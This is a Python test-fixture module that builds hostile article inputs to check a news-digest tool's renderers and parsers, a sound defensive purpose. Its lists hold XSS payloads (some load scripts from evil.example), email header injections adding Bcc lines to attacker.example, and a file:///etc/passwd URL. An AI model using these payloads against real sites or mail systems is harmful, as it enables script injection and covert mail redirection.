"""A corpus of hostile inputs, written for these tests (OWASP-style kinds).

Article text, titles and URLs are untrusted: each list holds the kinds of
value an article's author could use to act on the editor's behalf (markup a
reader runs, a header a mail server obeys) or to crash a build. The security
tests run every entry through the real renderers and parsers.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass, field
from urllib.parse import urlsplit


def _b64_word(text: str) -> str:
    return "=?utf-8?b?" + base64.b64encode(text.encode("utf-8")).decode("ascii") + "?="


#: Markup that a feed reader or browser would run or load if it stayed live.
MARKUP_VECTORS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=javascript:alert('x')>",
    '<img src="jav&#x09;ascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<input autofocus onfocus="alert(1)">',
    '<details open ontoggle="alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    '<audio src=x onerror="alert(1)">',
    '<marquee onstart="alert(1)">hi</marquee>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    "<!--<script>alert(1)</script>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scri\x00pt>alert(1)</scri\x00pt>",
    "<ſcript>alert(1)</ſcript>",
    "＜script＞alert(1)＜/script＞",
    "<p>Fine <b>bold</b> and <i>italic</i></p>",
    "AT&T & Johnson & Johnson < 5 > 3",
    "Q&amp;A: what &quot;quotes&quot; mean",
    '<x onclick="alert(1)">tag soup</x>',
    "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
)

#: URLs that must never crash a build or become a live link.
URL_VECTORS: tuple[str, ...] = (
    "https://news.example:99999/story",
    "https://news.example:abc/story",
    "http://[::1/story",
    "http://[::1]:70000/",
    "https://news.example:-1/story",
    "https://[not-an-ip]/story",
    "http://news.example:0/",
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//news.example/no-scheme",
    "https://",
    "https:///path-only",
    'https://news.example/a b<c>"d',
    "https://news.example/\x00nul",
    "https://user:pass@news.example:443/story?utm_source=x#top",
    "file:///etc/passwd",
)

#: Title text that tries to start a header of its own, encoded or not.
HEADER_VECTORS: tuple[str, ...] = (
    "=?utf-8?q?Harbour_vote=0D=0ACc:_evil@attacker.example?=",
    "=?utf-8?q?Ferry_news=0D=0AReply-To:_evil@attacker.example?=",
    _b64_word("Harbour vote\r\nBcc: evil@attacker.example"),
    "=?utf-8?q?Issue=0D=0ABcc:_evil@attacker.example?=",
    "=?UTF-8?Q?x=0ABcc:_evil@attacker.example?=",
    "=?utf-8?q?x=0DBcc:_evil@attacker.example?=",
    "=?iso-8859-1?q?x=0D=0ACc:_evil@attacker.example?=",
    "=?us-ascii?b?eA0KQ2M6IGV2aWxAYXR0YWNrZXIuZXhhbXBsZQ==?=",
    "=?utf-8?q?a=00b?=",
    "=?utf-8?q?=0D=0A=0D=0A<html>body_injection?=",
    "=?utf-8?q?a?= =?utf-8?q?=0D=0ACc:_evil@attacker.example?=",
    "x =?utf-8?q?=0D=0A?= Cc: evil@attacker.example",
    "=?utf-8*en?q?x=0D=0ACc:_evil@attacker.example?=",
    "=?utf-8?Q?=E2=80=A8Cc:_evil@attacker.example?=",
    "=?utf-8?q?=C2=85Cc:_evil@attacker.example?=",
    "=?utf-8?b?" + base64.b64encode(b"\xe2\x80\xa9Bcc: evil@attacker.example").decode() + "?=",
    "=?",
    "?=",
    "=?utf-8?q??=",
    "=?broken",
    "a=?utf-8?q?x?=b",
    "Harbour vote\r\nCc: evil@attacker.example",
    "Harbour vote\nBcc: evil@attacker.example",
    "Harbour vote\rReply-To: evil@attacker.example",
    "Harbour vote\r\n\r\n<html>body</html>",
    "Harbour vote\u2028Cc: evil@attacker.example",
    "Harbour vote\u2029Cc: evil@attacker.example",
    "Harbour vote\x85Cc: evil@attacker.example",
    "Harbour vote\x0bCc: evil@attacker.example",
    "Harbour vote\x0cCc: evil@attacker.example",
    "Harbour vote\x00Cc: evil@attacker.example",
    "Harbour vote\x1cCc: evil@attacker.example",
    "Harbour vote\x1eCc: evil@attacker.example",
    "Harbour vote\u202eelpmaxe.rekcatta@live :cC",
    "Harbour\tvote\t\tsplit by tabs",
    "Cc: evil@attacker.example",
    ": leading colon",
    "x" * 200,
    "word " * 60,
    "é" * 120,
    "漢字" * 50 + " =?utf-8?q?x?=",
    "🎉" * 40,
    "\ud800 lone surrogate",
)

#: Every character that must never reach a header as itself: C0, DEL, C1, the
#: Unicode line and paragraph separators.
CONTROL_CHARACTERS: tuple[str, ...] = (
    *(chr(c) for c in range(0x20)),
    "\x7f",
    *(chr(c) for c in range(0x80, 0xA0)),
    "\u2028",
    "\u2029",
)


# -- a generated corpus of hostile article inputs ---------------------------------
#
# Each :class:`Case` is a set of input files written for one build; with them
# always goes :data:`GOOD_NAME`, an ordinary article, so that a case checks
# both that the hostile files never sink the build and that the build goes on.
# ``tests/test_hostile.py`` runs every case through the real command line.

GOOD_NAME = "good.md"
GOOD_TITLE = "Ferry terminal approved after long debate"
GOOD_PROSE = (
    "The harbour board voted on Monday to approve the new ferry terminal after a long debate "
    "about traffic in the old town. Residents said the terminal would bring more cars to the "
    "narrow streets, and the board promised a study of the effects before building starts."
)
GOOD_ARTICLE = (
    f'---\ntitle: "{GOOD_TITLE}"\nurl: https://harbour.example/ferry\n'
    f"outlet: Harbour Times\n---\n{GOOD_PROSE}\n"
).encode()
#: The prose of a hostile article: nothing in it is like the good article's.
OTHER_PROSE = (
    "Volunteers counted more than four hundred migrating cranes over the northern marshes "
    "this weekend, the largest flock recorded there in a decade. Wardens asked walkers to keep "
    "dogs on leads until the birds leave for the south in early December."
)

#: Characters no article may carry into an output: C0 (but tab, LF, CR), DEL,
#: C1, the noncharacters and the byte order mark used as text.
REMOVED_CHARACTERS: tuple[str, ...] = (
    *(chr(c) for c in range(0x20) if chr(c) not in "\t\n\r"),
    "\x7f",
    *(chr(c) for c in range(0x80, 0xA0)),
    "\ufffe",
    "\uffff",
    "\ufdd0",
    "\ufdef",
    "\U0001fffe",
    "\U0010ffff",
    "\ufeff",
)
#: Characters that are text (or spacing) but hostile where they stand: line
#: and paragraph separators, bidirectional overrides, zero-width characters.
ODD_CHARACTERS: tuple[str, ...] = (
    "\t",
    "\r",
    "\n",
    "\u2028",
    "\u2029",
    "\u202a",
    "\u202b",
    "\u202c",
    "\u202d",
    "\u202e",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\u200b",
    "\u200c",
    "\u200d",
    "\u2060",
    "\u00ad",
)
#: Bidirectional embedding, override and isolate characters: dropped by the cleaner.
BIDI_CONTROLS = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


@dataclass(frozen=True)
class Case:
    """One hostile build: input files (beside the good article) and what may come of it."""

    name: str
    #: File name -> bytes, written into the sources folder with the good article.
    files: dict[str, bytes] = field(default_factory=dict)
    #: Extra ``digest build`` arguments.
    args: tuple[str, ...] = ()
    #: Without the good article: the hostile files alone.
    alone: bool = False
    #: The exit codes the README documents for this input.
    exits: frozenset[int] = frozenset({0})
    #: Words that must reach digest.json (the text kept, the character gone).
    kept: tuple[str, ...] = ()
    #: Characters that must appear in no output.
    banned: tuple[str, ...] = ()


def _xml_text(text: str) -> str:
    """``text`` escaped for XML, every character outside printable ASCII as a reference."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return "".join(c if " " <= c <= "~" else f"&#x{ord(c):X};" for c in escaped)


def md_article(
    title: str | None = "Cranes return to the marshes",
    body: str = OTHER_PROSE,
    *,
    url: str | None = None,
    outlet: str | None = None,
    author: str | None = None,
) -> bytes:
    """A Markdown article with front matter, as UTF-8 (surrogates as their raw bytes)."""
    meta = []
    for key, value in (("title", title), ("url", url), ("outlet", outlet), ("author", author)):
        if value is not None:
            meta.append(f'{key}: "{value}"' if key == "title" else f"{key}: {value}")
    head = "---\n" + "\n".join(meta) + "\n---\n" if meta else ""
    return (head + body + "\n").encode("utf-8", "surrogatepass")


def rss_feed(
    title: str = "Cranes return to the marshes",
    body: str = OTHER_PROSE,
    *,
    link: str = "https://marsh.example/cranes",
    channel: str = "Marsh News",
    author: str | None = None,
    raw: bool = False,
) -> bytes:
    """An RSS 2.0 feed with one item; ``raw`` writes the text as it is (no references)."""
    text = (lambda s: s) if raw else _xml_text
    who = f"<author>{text(author)}</author>" if author is not None else ""
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel>'
        f"<title>{text(channel)}</title><link>https://marsh.example/</link>"
        "<description>Marsh news</description>"
        f"<item><title>{text(title)}</title><link>{text(link)}</link>{who}"
        f"<description>{text(body)}</description>"
        "<pubDate>Fri, 20 Nov 2026 09:00:00 GMT</pubDate></item></channel></rss>\n"
    ).encode("utf-8", "surrogatepass")


def atom_feed(
    title: str, body: str = OTHER_PROSE, *, link: str = "https://marsh.example/c"
) -> bytes:
    """An Atom feed with one entry, the text as character references."""
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">'
        "<title>Marsh News</title><id>tag:marsh.example,2026:feed</id>"
        "<updated>2026-11-20T09:00:00Z</updated>"
        f"<entry><title>{_xml_text(title)}</title><id>tag:marsh.example,2026:1</id>"
        f'<link href="{_xml_text(link)}"/><updated>2026-11-20T09:00:00Z</updated>'
        f'<content type="html">{_xml_text("<p>" + body + "</p>")}</content></entry></feed>\n'
    ).encode()


def html_page(
    title: str = "Cranes return to the marshes",
    body: str = OTHER_PROSE,
    *,
    canonical: str | None = "https://marsh.example/cranes",
    site: str = "Marsh News",
    raw: bool = False,
) -> bytes:
    """A web page holding one article; ``raw`` writes the text as it is (no references)."""
    text = (lambda s: s) if raw else _xml_text
    link = f'<link rel="canonical" href="{text(canonical)}">' if canonical is not None else ""
    paragraphs = "".join(f"<p>{text(s.strip())}.</p>" for s in body.split(". ") if s.strip())
    return (
        f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>{text(title)}</title>{link}'
        f'<meta property="og:site_name" content="{text(site)}"></head><body><article>'
        f"<h1>{text(title)}</h1>{paragraphs}</article></body></html>\n"
    ).encode("utf-8", "surrogatepass")


def _char_name(char: str) -> str:
    return f"U+{ord(char):04X}"


def character_cases() -> list[Case]:
    """One build per character: in an article's title, outlet, author and body, in a
    Markdown file, an RSS feed (as a character reference and as itself) and a web page."""
    cases = []
    for char in (*REMOVED_CHARACTERS, *ODD_CHARACTERS):
        title = f"Cranes{char}return to the marshes"
        body = OTHER_PROSE.replace("migrating", f"migra{char}ting").replace(
            "wardens", f"{char}wardens"
        )
        files = {
            # front matter is one line a key: a line break there is refused, not read
            "chars.md": md_article(
                title.replace(char, " ") if char in "\r\n" else title,
                body,
                outlet=f"Marsh{char}News" if char not in "\r\n" else "Marsh News",
                author=f"Ana{char}Ruiz" if char not in "\r\n" else None,
            ),
            "chars.rss": rss_feed(title, body, author=f"ana@marsh.example (Ana{char}Ruiz)"),
            "chars.html": html_page(title, body, site=f"Marsh{char}News"),
        }
        if char not in "\x00\r" and not (0xD800 <= ord(char) <= 0xDFFF):
            # as the character itself in the XML (the parser may refuse it: a warning)
            files["raw.xml"] = rss_feed(
                title, body, link="https://marsh.example/raw", raw=True, channel="Raw News"
            )
        banned = (char,) if char in REMOVED_CHARACTERS or char in BIDI_CONTROLS else ()
        cases.append(
            Case(f"char-{_char_name(char)}", files, kept=("Cranes", "marshes"), banned=banned)
        )
    return cases


#: Lone surrogates as they can arrive: a character reference in a feed or a
#: page, UTF-16 with an unpaired code unit, CESU-8 bytes in a Markdown file.
def surrogate_cases() -> list[Case]:
    lone = ["\ud800", "\udbff", "\udc00", "\udfff"]
    cases = []
    for char in lone:
        name = _char_name(char)
        cases.append(
            Case(
                f"surrogate-{name}",
                {
                    "s.rss": rss_feed(f"Cranes{char} return to the marshes", OTHER_PROSE + char),
                    "s.atom": atom_feed(f"Cranes{char} return", f"{char}{OTHER_PROSE}"),
                    "s.html": html_page(f"Cranes{char} return to the marshes", OTHER_PROSE),
                    # invalid UTF-8: a one-line warning, the file skipped
                    "s.md": md_article(f"Cranes{char} return", OTHER_PROSE),
                },
                kept=("Cranes",),
                banned=(char,),
            )
        )
    utf16 = rss_feed("Cranes return", OTHER_PROSE).decode("utf-8")
    utf16 = utf16.replace("utf-8", "utf-16")
    data = utf16.encode("utf-16-le").replace(
        "Cranes".encode("utf-16-le"), "Cranes".encode("utf-16-le") + b"\x00\xd8"
    )
    cases.append(Case("surrogate-utf16-unpaired", {"u.xml": b"\xff\xfe" + data}))
    # a file name that is not UTF-8 reaches Python as surrogate escapes
    cases.append(Case("surrogate-file-name", {"caf\udce9.md": md_article()}))
    return cases


MEGABYTE = 1 << 20


def size_cases() -> list[Case]:
    """1 MB titles, outlets, bodies and words, in every kind of input."""
    long_title = ("Cranes " * (MEGABYTE // 7))[:MEGABYTE]
    long_word = "x" * MEGABYTE
    many_lines = "\n\n".join([OTHER_PROSE] * (MEGABYTE // len(OTHER_PROSE)))
    return [
        Case("mb-title-md", {"t.md": md_article(long_title)}),
        Case("mb-title-rss", {"t.rss": rss_feed(long_title)}),
        Case("mb-title-html", {"t.html": html_page(long_title)}),
        Case("mb-outlet-md", {"o.md": md_article(outlet=long_title)}),
        Case("mb-word-title", {"w.md": md_article(long_word)}),
        Case("mb-word-body", {"w.md": md_article(body=OTHER_PROSE + " " + long_word)}),
        Case("mb-paragraph", {"p.md": md_article(body=(OTHER_PROSE + " ") * 1800)}),
        Case("mb-body-lines", {"l.md": md_article(body=many_lines)}),
        Case("mb-url", {"u.md": md_article(url="https://marsh.example/" + "a" * MEGABYTE)}),
    ]


def nesting_cases(depth: int = 100_000) -> list[Case]:
    """Markup nested far deeper than any page: HTML, a feed's XML, its HTML, OPML, Markdown."""
    divs = "<div>" * depth + OTHER_PROSE + "</div>" * depth
    bold = "<b>" * depth + "x" + "</b>" * depth
    feed_nested = (
        '<?xml version="1.0"?><rss version="2.0"><channel><title>Deep</title>'
        "<link>https://deep.example/</link><description>d</description><item>"
        "<title>Cranes return</title><link>https://deep.example/1</link>"
        + "<x>" * depth
        + "</x>" * depth
        + f"<description>{OTHER_PROSE}</description></item></channel></rss>"
    )
    outlines = (
        '<?xml version="1.0"?><opml version="2.0"><head><title>Deep</title></head><body>'
        + '<outline text="f">' * depth
        + '<outline xmlUrl="deep.rss"/>'
        + "</outline>" * depth
        + "</body></opml>"
    )
    return [
        Case(
            "deep-html-page",
            {
                "d.html": html_page(body=OTHER_PROSE).replace(
                    b"<article>", b"<article>" + divs.encode()
                )
            },
        ),
        Case("deep-html-in-feed", {"d.rss": rss_feed("Cranes return", divs)}),
        Case("deep-inline-html-in-feed", {"b.rss": rss_feed("Cranes return", bold + OTHER_PROSE)}),
        Case("deep-xml-feed", {"x.rss": feed_nested.encode()}),
        Case("deep-opml", {"o.opml": outlines.encode(), "deep.rss": rss_feed()}),
        Case("deep-markdown-quote", {"q.md": md_article(body=">" * depth + " " + OTHER_PROSE)}),
        Case(
            "deep-markdown-list",
            {"l.md": md_article(body="\n".join("  " * i + "- item" for i in range(2000)))},
        ),
        Case("deep-title-markup", {"t.html": html_page(title="<b>" * 5000 + "Cranes")}),
    ]


def refused_before_connecting(url: str) -> bool:
    """Whether fetching ``url`` must fail before any connection (so a test can list it)."""
    try:
        parts = urlsplit(url)
        port = parts.port
    except ValueError:
        return True
    return parts.scheme.lower() not in ("http", "https") or not parts.hostname or port == 0


def url_cases(urls: tuple[str, ...]) -> list[Case]:
    """Each broken URL in every field that carries one: an article's front matter, a
    feed item's link, an Atom entry's link, a page's canonical link, an OPML list."""
    cases = []
    for number, url in enumerate(urls):
        files = {
            "u.md": md_article(url=url.replace("\n", "")),
            "u.rss": rss_feed(link=url),
            "u.atom": atom_feed("Cranes return to the marshes", link=url),
            "u.html": html_page(canonical=url),
        }
        if refused_before_connecting(url):  # never a test that reaches the network
            files["u.opml"] = (
                '<?xml version="1.0"?><opml version="2.0"><head><title>S</title></head><body>'
                f'<outline text="x" xmlUrl="{_xml_text(url)}"/>'
                f'<outline text="y" type="link" url="{_xml_text(url)}"/></body></opml>'
            ).encode()
        cases.append(Case(f"url-{number:02}", files))
    return cases


def empty_cases() -> list[Case]:
    """Empty and missing titles, bodies of nothing, bodies of punctuation."""
    cases = [
        Case("empty-title-md", {"e.md": md_article("")}),
        Case("no-title-md", {"e.md": md_article(None)}),
        Case("space-title-md", {"e.md": md_article("   ")}),
        Case("empty-title-rss", {"e.rss": rss_feed("")}),
        Case("empty-title-html", {"e.html": html_page("")}),
        Case("zero-width-title", {"z.md": md_article("\u200b\u200b\u2060")}),
        Case("control-only-title", {"c.md": md_article("\x01\x02\x1b")}),
        Case("empty-everything-rss", {"e.rss": rss_feed("", "", link="")}),
        Case("title-only-rss", {"t.rss": rss_feed("Cranes return to the marshes", "")}),
        Case("whitespace-body", {"w.txt": b"   \n\t\n  \n"}),
        Case("nul-body", {"n.txt": b"Cranes\x00 return\x00\n\x00\x00"}),
        Case("only-controls", {"c.txt": bytes(range(1, 32)) + b"\n"}),
        Case("only-zero-width", {"z.txt": "\u200b\u200c\u200d\ufeff\n".encode()}),
    ]
    for number, text in enumerate(["...", "…", "!", "?!", "— — —", ". . .", "*", '"', "•••"]):
        cases.append(Case(f"punctuation-{number}", {"p.txt": (text + "\n").encode()}))
        cases.append(
            Case(
                f"punctuation-alone-{number}",
                {"p.md": md_article(text, text)},
                alone=True,
                exits=frozenset({3}),
            )
        )
    return cases


def markup_cases(vectors: tuple[str, ...]) -> list[Case]:
    """Markup in titles, outlets and bodies of every kind of input, a few vectors a build."""
    cases = []
    step = 6
    for start in range(0, len(vectors), step):
        files = {}
        for offset, vector in enumerate(vectors[start : start + step]):
            body = f"{OTHER_PROSE} {vector} The end."
            files[f"m{offset}.md"] = md_article(f"Cranes {vector}", body, outlet=vector)
            files[f"m{offset}.rss"] = rss_feed(f"Cranes {vector}", body, channel=vector)
            files[f"m{offset}.html"] = html_page(f"Cranes {vector}", body, raw=True)
        cases.append(Case(f"markup-{start // step}", files))
    return cases


def header_cases(vectors: tuple[str, ...]) -> list[Case]:
    """Titles that try to add a header, from each kind of input, a few a build."""
    cases = []
    step = 8
    for start in range(0, len(vectors), step):
        files = {}
        for offset, vector in enumerate(vectors[start : start + step]):
            files[f"h{offset}.rss"] = rss_feed(vector, link=f"https://marsh.example/{offset}")
            files[f"h{offset}.html"] = html_page(vector, canonical=None)
        cases.append(Case(f"header-{start // step}", files))
    return cases


def corpus() -> list[Case]:
    """Every hostile article case."""
    return [
        *character_cases(),
        *surrogate_cases(),
        *size_cases(),
        *nesting_cases(),
        *url_cases(URL_VECTORS),
        *empty_cases(),
        *markup_cases(MARKUP_VECTORS),
        *header_cases(HEADER_VECTORS),
    ]
